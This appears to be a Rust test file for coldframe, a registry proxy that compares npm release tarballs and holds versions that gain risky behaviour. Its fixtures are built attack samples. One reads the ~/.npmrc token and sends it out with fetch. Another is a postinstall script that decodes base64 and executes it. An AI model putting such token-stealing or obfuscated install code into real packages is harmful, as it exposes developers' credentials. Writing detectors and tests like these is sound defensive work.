//! What a release changed in its tarball, and what its code does. The attacks are built here; none is real malware.

use serde_json::{Value, json};
use tempfile::TempDir;

use crate::fake_response::Reply;
use crate::harness::Scene;
use crate::package::{Package, days, minutes, tarball};
use crate::process::{coldframe, machine_clock, run};
use crate::registry::Registry;

const OLD_CODE: &str = "exports.send = (text) => fetch('https://api.example', { body: text });\n";
const OLD_PATH: &str = "/demo/-/demo-1.0.0.tgz";
const NEW_PATH: &str = "/demo/-/demo-1.1.0.tgz";

/// Reads an npm token in one file and sends it in another one.
const THEFT: &[(&str, &str)] =
    &[("index.js", "const { send } = require('./send');\nsend(require('./read'));\n"), ("send.js", OLD_CODE), ("read.js", READ)];
const READ: &str = "module.exports = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n";

/// Returns a release whose packument and tarball state the same scripts.
fn release(version: &str, scripts: &Value, files: &[(&str, &str)]) -> Package {
    let manifest = json!({ "name": "demo", "version": version, "main": "index.js", "scripts": scripts }).to_string();
    let paths: Vec<(String, &str)> = files.iter().map(|(path, text)| (format!("package/{path}"), *text)).collect();
    let mut packed = vec![("package/package.json", &*manifest)];
    packed.extend(paths.iter().map(|(path, text)| (&**path, *text)));
    Package::new("demo", version).field("scripts", scripts.clone()).packed(tarball(&packed))
}

/// Publishes an old release with `scripts`, and a four days old one with `files`.
fn publish(scene: &Scene, scripts: &Value, files: &[(&str, &str)]) {
    scene
        .publish(release("1.0.0", scripts, &[("index.js", OLD_CODE), ("setup.js", "console.log('thank you')\n")]).aged(days(60)));
    scene.publish(release("1.1.0", scripts, files).aged(days(4)));
}

async fn findings(scene: &Scene) -> Vec<String> {
    let explained = scene.get("/-/coldframe/explain/demo@1.1.0").accept("application/json").await.is(200).json();
    let found = explained["facts"]["findings"].as_array().cloned().unwrap_or_default();
    found.iter().filter_map(|found| found["finding"].as_str().map(str::to_owned)).collect()
}

async fn is_refused(scene: &Scene, rule: &str, text: &str) {
    let refused = scene.get(NEW_PATH).await.is(403).error();
    assert!(refused.contains(&format!("rule {rule}")) && refused.contains(text), "{text}: {refused}");
    assert_eq!(scene.get("/demo").await.versions(), ["1.0.0"]);
    scene.get(OLD_PATH).await.is(200);
}

#[tokio::test]
async fn code_that_gains_a_behaviour_is_noted_and_served() {
    let scene = Scene::open().await;
    publish(&scene, &json!({}), THEFT);
    scene.get(NEW_PATH).await.is(200);
    assert_eq!(findings(&scene).await, ["secrets-to-network"]);
    assert_eq!(scene.get("/demo").await.versions(), ["1.0.0", "1.1.0"]);
    let explained = scene.get("/-/coldframe/explain/demo@1.1.0").accept("application/json").await.json().to_string();
    assert!(explained.contains("names .npmrc (read.js:1), uses fetch (send.js:1); compared with 1.0.0"), "{explained}");
}

#[tokio::test]
async fn code_that_gains_a_behaviour_is_held_with_any_signal() {
    let scene = Scene::open().await;
    publish(&scene, &json!({}), THEFT);
    // Two lines within an hour are a weak signal.
    scene.publish(Package::new("demo", "0.9.1").aged(days(4) + minutes(5)).tagged("legacy"));
    assert_eq!(scene.get("/demo").await.versions().len(), 3);
    let refused = scene.get(NEW_PATH).await.is(403).error();
    assert!(refused.contains("rule behaviour-with-signal") && refused.contains("release-burst"), "{refused}");
    scene.advance(days(10));
    assert_eq!(scene.get("/demo").await.versions().len(), 3);
    scene.get(NEW_PATH).await.is(200);
}

#[tokio::test]
async fn worse_install_script_is_held_without_a_signal() {
    let mut scene = Scene::open().await;
    let setup = "const s = Buffer.from('Y3VybA==', 'base64').toString();\nrequire('child_process').exec(s);\n";
    publish(&scene, &json!({ "postinstall": "node setup" }), &[("index.js", OLD_CODE), ("setup.js", setup)]);
    assert_eq!(scene.get("/demo").await.versions(), ["1.0.0", "1.1.0"]);
    is_refused(&scene, "install-behaviour", "runs at install: starts processes (setup.js:2), decodes base64 (setup.js:1)").await;
    scene.restart().await;
    assert_eq!(scene.get("/demo").await.versions(), ["1.0.0"]);
}

#[tokio::test]
async fn install_script_that_always_downloaded_is_served() {
    let scene = Scene::open().await;
    let scripts = json!({ "install": "node setup.js" });
    let setup = |version: &str| format!("require('https').get('x');\nrequire('child_process').execSync('chmod +x {version}');\n");
    scene.publish(release("1.0.0", &scripts, &[("setup.js", &setup("1.0.0"))]).aged(days(60)));
    scene.publish(release("1.1.0", &scripts, &[("setup.js", &setup("1.1.0"))]).aged(days(4)));
    scene.get(NEW_PATH).await.is(200);
    assert_eq!(findings(&scene).await, [""; 0]);
}

#[tokio::test]
async fn predecessor_is_read_once_and_never_the_attackers_own_release() {
    let mut scene = Scene::open().await;
    publish(&scene, &json!({}), THEFT);
    // Published by the same attacker, so that the next release shows no change.
    scene.publish(release("1.1.1", &json!({}), THEFT).aged(days(3)));
    scene.get(NEW_PATH).await.is(200);
    scene.get("/demo/-/demo-1.1.1.tgz").await.is(200);
    assert_eq!(findings(&scene).await, ["secrets-to-network"]);
    assert_eq!(scene.registry.count(OLD_PATH), 1);
    scene.restart().await;
    scene.get(NEW_PATH).await.is(200);
    scene.get(OLD_PATH).await.is(200);
    assert_eq!(scene.registry.count(OLD_PATH), 1);
}

#[tokio::test]
async fn predecessor_that_cannot_be_had_hides_nothing() {
    let mut scene = Scene::open().await;
    publish(&scene, &json!({}), THEFT);
    scene.registry.answer(OLD_PATH, Reply::status(404));
    scene.get(NEW_PATH).await.is(200);
    assert_eq!(findings(&scene).await, [""; 0]);
    scene.get(NEW_PATH).await.is(200);
    assert_eq!(scene.registry.count(OLD_PATH), 1, "one attempt for one document");
    // It is tried again later.
    scene.registry.clear_answer(OLD_PATH);
    scene.restart().await;
    scene.get(NEW_PATH).await.is(200);
    assert_eq!(findings(&scene).await, ["secrets-to-network"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn vet_compares_an_old_release_although_no_rule_judges_it() {
    let (home, registry) = (TempDir::new().unwrap(), Registry::start(&machine_clock()).await);
    registry.publish(release("1.0.0", &json!({}), &[("index.js", OLD_CODE)]).aged(days(300)));
    registry.publish(release("1.1.0", &json!({}), THEFT).aged(days(200)));
    // Published later as a fix of an older line, so 1.1.0 is not compared with it.
    registry.publish(release("1.0.1", &json!({}), THEFT).aged(days(100)).tagged("old"));
    let vet = |more: &[&str]| {
        let mut command = coldframe(home.path());
        run(command.args(["vet", "demo@1.1.0", "--upstream", &registry.url]).args(more))
    };
    let (code, out, errors) = vet(&[]);
    assert_eq!(code, 10, "{out}{errors}");
    assert!(out.contains("compared with 1.0.0)\n  note: no rule judges any more what changed since its predecessor"), "{out}");
    assert!(out.contains("finding: secrets-to-network: names .npmrc (read.js:1), uses fetch (send.js:1)"), "{out}");
    let vetted = serde_json::from_str::<Value>(&vet(&["--json"]).1).unwrap()["vetted"][0].clone();
    assert_eq!((&vetted["comparedWith"], &vetted["changesJudged"]), (&json!("1.0.0"), &json!(false)), "{vetted}");
    // What a report shows is not recorded, so rules never judge it.
    let explained = &vetted["explanation"];
    assert_eq!((&explained["facts"]["findings"], &explained["verdict"]), (&json!([]), &json!("allow")), "{explained}");
}
